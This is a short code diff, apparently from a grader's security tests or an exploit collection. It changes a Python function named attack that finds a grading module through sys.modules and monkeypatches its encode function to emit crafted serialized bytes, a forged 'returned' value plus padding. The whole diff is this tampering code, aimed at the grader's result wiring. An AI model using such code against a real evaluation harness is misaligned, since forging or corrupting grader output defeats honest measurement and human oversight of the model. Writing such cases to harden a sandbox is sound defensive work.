@@ -6,7 +6,7 @@ import sys
 
 
 def attack(facts):
-    runner = sys.modules["grader.sandbox.inside.runner"]
+    actions = sys.modules["grader.core.wire.actions"]
     array = b"a\x02|O\x01\x01\x00\x00\x00" + b"\x41" * 8
-    runner.encode = lambda value, limit: b"d\x01\x00\x00\x00s\x08\x00\x00\x00returned" + array
+    actions.encode = lambda value, limit: b"d\x01\x00\x00\x00s\x08\x00\x00\x00returned" + array
     return 1
